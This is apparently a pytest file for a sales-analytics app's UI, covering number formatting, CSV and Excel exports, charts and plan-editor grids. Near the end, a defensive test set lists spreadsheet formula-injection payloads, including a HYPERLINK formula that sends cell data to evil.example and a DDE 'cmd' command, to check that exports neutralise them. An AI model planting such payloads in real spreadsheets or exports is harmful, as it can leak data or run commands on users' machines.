"""Pure building blocks of the UI: number formats, exports with filters, chart builders."""

from __future__ import annotations

import csv
import io
import math
import re
from datetime import date

import openpyxl
import pandas as pd
import pytest

from analytics.deltas import delta
from appdb.plans import StoredItem
from i18n import use_language
from ui.activity_charts import PARTIAL_OPACITY, score_histogram, weekly_activity_figure
from ui.charts import (
    COMPARISON,
    PRIMARY,
    STAGE_PALETTE,
    money_axis,
    pipeline_figure,
    stage_colours,
    trend_figure,
)
from ui.export import csv_bytes, xlsx_bytes
from ui.format import format_delta, format_value
from ui.funnel_charts import waterfall_figure
from ui.plan_editor import editor_rows, stored_items, target_grid, with_grid_targets

NAN = math.nan


@pytest.mark.parametrize(
    ("value", "unit", "currency", "text"),
    [
        (1_234_567.0, "money", "USD", "$1.23M"),
        (-45_600.0, "money", "EUR", "−€45.6k"),  # U+2212 before the currency
        (-9_280.4, "money", "USD", "−$9.28k"),
        (-0.04, "money", "USD", "$0"),  # rounds to 0: no sign
        (-3.0, "count", None, "−3"),
        (999.0, "money", "SEK", "SEK 999"),
        (0.0, "money", None, "0"),
        (2_500_000_000.0, "money", "USD", "$2.50B"),
        (123_456.0, "money", "USD", "$123k"),
        (1234.0, "count", None, "1,234"),
        (0.4215, "ratio", None, "42.1%"),
        (12.345, "days", None, "12.3 d"),
        (NAN, "ratio", None, "—"),
        (None, "money", "USD", "—"),
    ],
)
def test_format_value(value: float | None, unit: str, currency: str | None, text: str) -> None:
    assert format_value(value, unit, currency) == text  # type: ignore[arg-type]


def test_money_in_full_keeps_the_sign_before_the_currency() -> None:
    assert format_value(-9_280.0, "money", "USD", compact=False) == "−$9,280"
    assert format_value(9_280.0, "money", "USD", compact=False) == "$9,280"


@pytest.mark.parametrize(
    ("current", "previous", "unit", "text"),
    [
        (0.45, 0.419, "ratio", "+3.1 pp"),  # rates move in percentage points
        (0.4, 0.5, "ratio", "-10.0 pp"),
        (37_800.0, 33_600.0, "money", "+12.5% (+$4.20k)"),
        (9.0, 12.0, "count", "-25.0% (-3)"),
        (3.0, 0.0, "count", "+3"),  # previous value 0: no relative change exists
        (NAN, 5.0, "count", None),  # nothing to compare with
        # a tiny base: the absolute change only (3 -> 511 is not "+16933.3%")
        (511.0, 3.0, "count", "+508"),
        (2.0, 9.0, "count", "-7"),
        (11.0, 10.0, "count", "+10.0% (+1)"),  # 10 is no longer tiny
        (5_000.0, 8.0, "money", "+$4.99k"),
        (4.7, 4.1, "decimal", "+14.6% (+0.6)"),  # rates per day keep their relative change
        (12.0, 6.0, "days", "+100.0% (+6.0 d)"),
        # a change that rounds to nothing has no sign ("-0.0 pp" read as a fall)
        (0.0401, 0.0403, "ratio", "0.0 pp"),
        (1_000.0, 1_000.2, "count", "0.0% (0)"),
        (1.151, 1.152, "multiple", "0.00×"),
    ],
)
def test_format_delta(current: float, previous: float, unit: str, text: str | None) -> None:
    assert format_delta(delta(current, previous), unit, "USD") == text  # type: ignore[arg-type]


FRAME = pd.DataFrame(
    {"Deal": [7, 9], "Amount": [1500.5, 20.0], "Closed": pd.to_datetime(["2026-01-02", None])}
)
CONTEXT = {"Page": "Overview — Largest won", "Period": "1 Jan – 31 Mar 2026", "Reps": "Ann, Bo"}


def test_csv_export_has_the_filters_and_exactly_the_rows_shown() -> None:
    data = csv_bytes(FRAME, CONTEXT).decode()
    assert data.splitlines()[:3] == [
        "# Page: Overview — Largest won",
        "# Period: 1 Jan – 31 Mar 2026",
        "# Reps: Ann, Bo",
    ]
    back = pd.read_csv(io.StringIO(data), comment="#", parse_dates=["Closed"])
    assert back["Deal"].tolist() == [7, 9]
    assert back["Amount"].tolist() == [1500.5, 20.0]
    assert back["Closed"].iloc[0] == pd.Timestamp("2026-01-02") and pd.isna(back["Closed"].iloc[1])


def test_xlsx_export_has_a_data_and_a_filters_sheet() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(FRAME, CONTEXT, sheet="Largest won")))
    assert book.sheetnames == ["Largest won", "Filters"]
    rows = list(book["Largest won"].iter_rows(values_only=True))
    assert rows[0] == ("Deal", "Amount", "Closed")
    assert rows[1][:2] == (7, 1500.5) and rows[2][:2] == (9, 20)
    assert list(book["Filters"].iter_rows(values_only=True)) == [
        ("Filter", "Value"),
        *CONTEXT.items(),
    ]


def test_stage_colours_are_fixed_by_pipeline_order() -> None:
    colours = stage_colours(["Lead", "Qualified", "Proposal"])
    assert colours == dict(zip(["Lead", "Qualified", "Proposal"], STAGE_PALETTE[:3], strict=True))
    many = stage_colours([f"S{i}" for i in range(10)])
    assert many["S8"] == STAGE_PALETTE[0]  # cycles after the palette


def test_trend_figure_draws_both_periods() -> None:
    trend = pd.DataFrame(
        {
            "month": pd.to_datetime(["2026-01-01", "2026-02-01"]),
            "current": [100.0, 50.0],
            "previous": [80.0, 0.0],
            "previous_month": pd.to_datetime(["2025-01-01", "2025-02-01"]),
            "partial": [False, True],
        }
    )
    bars, line = trend_figure(trend, "USD", "This period", "Comparison period").data
    assert (bars.type, line.type) == ("bar", "scatter")
    assert list(bars.x) == ["Jan 2026", "Feb 2026"] and list(bars.y) == [100.0, 50.0]
    assert list(bars.marker.opacity) == [1.0, 0.45]  # the partial month is lighter
    assert list(line.y) == [80.0, 0.0] and list(line.customdata) == ["Jan 2025", "Feb 2025"]
    assert bars.marker.color == PRIMARY and line.line.color == COMPARISON


def test_pipeline_figure_orders_stages_and_labels_counts() -> None:
    by_stage = pd.DataFrame(
        {
            "stage_id": [2, 1], "stage": ["Proposal", "Lead"], "position": [2, 1],
            "probability": [0.5, 0.1], "deals": [3, 10], "amount": [300.0, 1000.0],
            "weighted_amount": [150.0, 100.0],
        }
    )  # fmt: skip
    fig = pipeline_figure(by_stage, "USD")
    bars, weighted = fig.data
    assert list(bars.y) == ["Lead", "Proposal"] and list(bars.x) == [1000.0, 300.0]
    assert list(bars.text) == ["10 deals", "3 deals"]
    assert list(weighted.x) == [100.0, 150.0]
    assert list(bars.marker.color) == list(STAGE_PALETTE[:2])
    assert list(fig.layout.xaxis.range) == [0, 1250.0]


def test_export_context_is_plain_text_not_markdown() -> None:
    from analytics.periods import resolve_period
    from appdb.users import Identity
    from crm_data.filters import Filters, Scope
    from ui.page import FilteredContext, PageContext

    head = Identity("al@example.com", "Anna-Lena O'Brien (EMEA)", "head", 4, 1)
    period = resolve_period("this_month", date(2026, 3, 10))
    filters = Filters(period.start, period.end, date(2026, 2, 1), date(2026, 3, 1))
    context = FilteredContext(
        head, Scope.head(1, 4), 0, filters, period, labels=(("Regions", "North-East"),)
    )
    assert list(context.export_context("Overview").items()) == [  # the file header's order
        ("Page", "Overview"),
        ("Period", "1 Mar – 10 Mar 2026 (2026-03-01 to 2026-03-11, end excluded)"),
        ("Compared with", "Previous period: 1 Feb – 28 Feb 2026"),
        ("Regions", "North-East"),
        ("Scope", "team of Anna-Lena O'Brien (EMEA)"),  # no Markdown escapes in a file
    ]
    # a page without the filter bar: who, nothing about filters
    plain = PageContext(head, Scope.head(1, 4), 0).export_context("Incentives")
    assert plain == {"Page": "Incentives", "Scope": "team of Anna-Lena O'Brien (EMEA)"}


COMPLIANCE = StoredItem("followup_compliance", 0.4, target=0.85, threshold=0.5, cap=1.2,
                        rep_targets=((3, 0.9), (8, 0.75)))  # fmt: skip
REVENUE = StoredItem("won_revenue", 0.6, target=50_000.0, cap=1.5, accelerator=1.5,
                     rep_targets=((3, 60_000.0),))  # fmt: skip


def test_plan_editor_shows_rates_in_percent_and_counts_own_targets() -> None:
    rows = editor_rows((COMPLIANCE, REVENUE))
    assert rows["target"].tolist() == pytest.approx([85.0, 50_000.0])
    assert rows["unit"].tolist() == ["%", "amount"]
    assert rows["weight_pct"].tolist() == pytest.approx([40.0, 60.0])
    assert rows["cap_pct"].tolist() == pytest.approx([120.0, 150.0])
    assert rows["own_targets"].tolist() == [2, 1]


def test_plan_editor_rows_back_to_items_keep_per_rep_targets() -> None:
    rows = editor_rows((COMPLIANCE, REVENUE))
    items = [StoredItem(**item) for item in stored_items(rows, (COMPLIANCE, REVENUE))]
    assert items[0].target == pytest.approx(0.85)  # typed as 85 (%)
    assert [item.rep_targets for item in items] == [COMPLIANCE.rep_targets, REVENUE.rep_targets]
    assert items[1] == REVENUE
    # edits: a rate target typed in %, the revenue row switched to another metric, a blank
    # target, a row without a metric (skipped)
    rows.loc[0, "target"] = 92.5
    rows.loc[1, "metric"] = "New deals"
    rows.loc[len(rows)] = ["Won deals", 10.0, None, None, 0.0, None, None, 0]
    rows.loc[len(rows)] = [None, 5.0, 3.0, None, 0.0, None, None, 0]
    edited = stored_items(rows, (COMPLIANCE, REVENUE))
    assert [item["metric_key"] for item in edited] == [
        "followup_compliance", "new_deals", "won_deals"]  # fmt: skip
    assert edited[0]["target"] == pytest.approx(0.925)
    assert edited[0]["rep_targets"] == COMPLIANCE.rep_targets
    assert edited[1]["target"] == pytest.approx(50_000.0)  # a count now: no scaling
    assert edited[1]["rep_targets"] == ()  # revenue targets do not follow to another metric
    assert edited[2]["target"] is None and edited[2]["weight"] == pytest.approx(0.1)
    # without the edited version (a new plan) nothing is carried
    assert all(item["rep_targets"] == () for item in stored_items(rows))


def test_weekly_figure_marks_weeks_partly_inside_the_period() -> None:
    weeks = pd.to_datetime(["2026-10-26", "2026-11-02", "2026-11-09"])
    trend = pd.DataFrame({"period": list(weeks) * 2, "type": ["call"] * 3 + ["email"] * 3,
                          "activities": [2, 30, 12, 1, 20, 9]})  # fmt: skip
    previous = pd.DataFrame({"period": weeks, "previous": [40, 45, 41]})
    # the period is Sun 1 Nov to Wed 11 Nov inclusive: 1 day of the first week, 3 of the last
    fig = weekly_activity_figure(trend, previous, (date(2026, 11, 1), date(2026, 11, 12)))
    bars = [trace for trace in fig.data if trace.type == "bar"]
    assert [trace.name for trace in bars] == ["call", "email"]
    for trace in bars:
        assert list(trace.marker.opacity) == [PARTIAL_OPACITY, 1.0, PARTIAL_OPACITY]
        note = "<br>partial week: {} of 7 days in the period"
        assert list(trace.customdata) == [note.format(1), "", note.format(3)]
    # without the period every bar is whole
    whole = weekly_activity_figure(trend, previous)
    assert all(set(t.marker.opacity) == {1.0} for t in whole.data if t.type == "bar")


def test_per_rep_target_grid_round_trip() -> None:
    grid = target_grid((COMPLIANCE, REVENUE), {3: "Ann", 5: "Bo"})  # rep 8 not shown
    assert grid["rep"].tolist() == ["Ann", "Bo"]
    assert grid.loc[3].tolist()[1:] == pytest.approx([90.0, 60_000.0])  # compliance in %
    assert grid[["followup_compliance", "won_revenue"]].loc[5].isna().all()
    assert with_grid_targets((COMPLIANCE, REVENUE), grid) == (COMPLIANCE, REVENUE)
    grid.loc[5, "followup_compliance"] = 70.0
    grid.loc[3, "won_revenue"] = None
    compliance, revenue = with_grid_targets((COMPLIANCE, REVENUE), grid)
    assert dict(compliance.rep_targets) == pytest.approx({3: 0.9, 5: 0.7, 8: 0.75})
    assert [rep for rep, _ in compliance.rep_targets] == [3, 5, 8]  # ordered by rep
    assert revenue.rep_targets == ()
    assert (compliance.target, revenue.target) == (COMPLIANCE.target, REVENUE.target)


def test_score_histogram_ticks_whole_reps() -> None:
    """Five reps in 10-point bins: the count axis ticks 0, 1, 2, ... (never "0.5 reps")."""
    few = score_histogram(pd.Series([0.42, 0.45, 0.58, 0.79, 1.07]))
    assert (few.layout.yaxis.tick0, few.layout.yaxis.dtick) == (0, 1)
    assert few.data[0].xbins.start == 0  # bins [40, 50), [50, 60), ... as counted
    many = score_histogram(pd.Series([0.95] * 23 + [1.2]))  # 23 reps in one bin
    assert many.layout.yaxis.dtick == 5


#: Cells a spreadsheet would run as formulas (issue #14 item 6), each in a text column.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # a full-width equals sign
]
HOSTILE_FRAME = pd.DataFrame(
    {
        "Account": HOSTILE,
        "Owner": pd.array(["Ann", "-Bo", None, "=x", "1-2", "−$9,280", "@ann", "Cy"], "string"),
        "Segment": pd.Categorical(["=A1", "b", "b", "b", "b", "b", "b", "b"]),
        "Amount": [-9280.5, -1.0, 0.0, 2.5, -3.0, 4.0, 5.0, -6.0],
        "Deals": pd.array([-1, None, 3, 4, 5, 6, 7, 8], dtype="Int64"),
        "=cmd|' /C calc'!A0": ["x"] * 8,  # a header
    }
)
HOSTILE_CONTEXT = {
    "Page": "Activity — Forgotten clients",
    "Accounts": 'Acme,=HYPERLINK("http://evil.example","x"); -1+2\n=1+1\t@A1,"=2"',
}


def test_csv_export_neutralises_every_formula_and_keeps_numbers() -> None:
    data = csv_bytes(HOSTILE_FRAME, HOSTILE_CONTEXT).decode()
    back = pd.read_csv(io.StringIO(data), comment="#")
    assert back["Account"].tolist() == [f"'{text}" for text in HOSTILE]
    owners = back["Owner"].fillna("—").tolist()
    assert owners == ["Ann", "'-Bo", "—", "'=x", "1-2", "−$9,280", "'@ann", "Cy"]
    assert back["Segment"].iloc[0] == "'=A1"
    assert back["Amount"].tolist() == HOSTILE_FRAME["Amount"].tolist()  # numbers, negatives too
    assert back["Deals"].fillna(0).tolist() == [-1, 0, 3, 4, 5, 6, 7, 8]
    assert back.columns[-1] == "'=cmd|' /C calc'!A0"
    # no cell, split as a spreadsheet would (commas, semicolons, tabs), starts a formula
    lines = data.splitlines()
    assert lines[:2] == [
        "# Page: Activity — Forgotten clients",
        '# Accounts: Acme,\'=HYPERLINK("http://evil.example",\'"x"); \'-1+2 =1+1\t\'@A1,\'"=2"',
    ]
    for line in lines[:2]:
        for field in re.split(r"[,;\t]", line)[1:]:
            assert field.lstrip()[:1] not in {"=", "+", "-", "@", '"'}, field
    for row in csv.reader(lines[2:]):
        for cell in row:
            if not re.fullmatch(r"-?[0-9.]+", cell):
                assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", " ", "＝"}, cell


def test_xlsx_export_has_no_formula_and_keeps_text_and_numbers() -> None:
    data = xlsx_bytes(HOSTILE_FRAME, HOSTILE_CONTEXT, sheet="Forgotten clients")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    # the text is kept as it is, marked as text (Excel's quote prefix: typed as '=...)
    sheet = book["Forgotten clients"]
    accounts = [sheet.cell(row, 1) for row in range(2, 10)]
    assert [cell.value for cell in accounts] == [t.replace("\r", "\n") for t in HOSTILE]  # XML
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in accounts)
    assert sheet.cell(1, 6).value == "=cmd|' /C calc'!A0" and sheet.cell(1, 6).quotePrefix
    assert not sheet.cell(2, 2).quotePrefix  # "Ann" needs no mark
    amounts = [sheet.cell(row, 4) for row in range(2, 10)]
    assert [cell.value for cell in amounts] == HOSTILE_FRAME["Amount"].tolist()
    assert all(cell.data_type == "n" and not cell.quotePrefix for cell in amounts)
    filters = book["Filters"]
    assert filters.cell(3, 2).value == HOSTILE_CONTEXT["Accounts"]
    assert filters.cell(3, 2).quotePrefix is False  # begins with "Acme": one cell, no formula


def test_amount_axes_tick_round_values_in_the_language() -> None:
    """Ticks 1, 2, 2.5 or 5 × 10^k apart over 0 to the highest level, written compact."""
    assert money_axis(0.0, 1_200_000.0, "USD") == {
        "tickvals": [0.0, 250_000.0, 500_000.0, 750_000.0, 1_000_000.0, 1_250_000.0],
        "ticktext": ["$0", "$250k", "$500k", "$750k", "$1M", "$1.25M"],
    }
    assert money_axis(-30.0, 70.0, None)["ticktext"] == ["-40", "-20", "0", "20", "40", "60", "80"]
    assert money_axis(0.0, math.nan, "EUR") == {"tickvals": [0.0], "ticktext": ["€0"]}
    # a waterfall from 600 up by 900 (1,500 at its highest), down by 300 and ending at 1,200
    waterfall = pd.DataFrame({
        "step": ["Pipeline at start", "New", "Lost", "Pipeline at end"],
        "measure": ["absolute", "relative", "relative", "total"],
        "amount": [600.0, 900.0, -300.0, 1200.0], "deals": [6, 9, 3, 12],
    })  # fmt: skip
    with use_language("ru"):
        axis = waterfall_figure(waterfall, "RUB").layout.yaxis
    assert list(axis.tickvals) == [0.0, 500.0, 1000.0, 1500.0]
    assert list(axis.ticktext) == [
        "0\u00a0₽",
        "500\u00a0₽",
        "1\u00a0тыс.\u00a0₽",
        "1,5\u00a0тыс.\u00a0₽",
    ]
